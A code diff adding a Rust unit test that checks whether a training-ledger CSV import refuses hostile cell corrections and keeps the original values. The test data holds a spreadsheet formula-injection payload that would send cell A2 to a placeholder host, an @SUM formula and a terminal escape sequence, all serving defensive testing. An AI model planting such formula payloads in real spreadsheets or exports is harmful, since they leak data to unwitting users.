@@ -1527,4 +1527,78 @@ mod tests {
         );
         assert_eq!(rows[2].raw(0), "合计", "footer rows are kept as they were");
     }
+
+    /// What an officer (or anything posing as the window) types into the preview is a cell like
+    /// any other: a formula, a 32,000-character paste or a control character is refused with a
+    /// message on its row, and the file's own value stays.
+    #[test]
+    fn hostile_corrections_are_refused_on_their_row() {
+        let mut conn = crate::ledger::db::open_in_memory().unwrap();
+        let a = make_id("370402", "19800202", "201");
+        crate::ledger::staff::add(
+            &conn,
+            &crate::ledger::staff::StaffInput {
+                name: "王一".into(),
+                id_number: a.clone(),
+                ..Default::default()
+            },
+        )
+        .unwrap();
+        let file =
+            format!("身份证号,类别,项目名称,开始日期,学时\n{a},培训进修,心电图,2025-03-01,8\n");
+        let fix = |value: String| CellFix {
+            line: 2,
+            field: "项目名称".into(),
+            value,
+        };
+        let options = Options {
+            fixes: vec![
+                fix("=HYPERLINK(\"http://x/?\"&A2)".into()),
+                fix("长".repeat(32_000)),
+                fix("心电\u{1b}[2J图".into()),
+                CellFix {
+                    line: 2,
+                    field: "学时".into(),
+                    value: "@SUM(1)".into(),
+                },
+            ],
+            ..Default::default()
+        };
+        let p = preview(
+            &mut conn,
+            Kind::Records,
+            "d.csv",
+            file.as_bytes(),
+            &options,
+            &table::no_progress,
+        )
+        .unwrap();
+        let said: Vec<&str> = p.errors.iter().map(|e| e.message.as_str()).collect();
+        assert_eq!(said.len(), 4, "{said:?}");
+        assert!(
+            said.iter().all(|m| m.starts_with("修改未采用：")),
+            "{said:?}"
+        );
+        assert!(
+            said.iter().any(|m| m.contains("内容过长（32000字）")),
+            "{said:?}"
+        );
+        assert!(said.iter().any(|m| m.contains("控制字符")), "{said:?}");
+        assert_eq!(
+            p.problem_rows[0].cells[3], "心电图",
+            "the file's value stays"
+        );
+        assert!(commit(
+            &mut conn,
+            Kind::Records,
+            "d.csv",
+            file.as_bytes(),
+            &options,
+            &table::no_progress
+        )
+        .is_err());
+        assert!(records::list(&conn, &Default::default())
+            .unwrap()
+            .is_empty());
+    }
 }
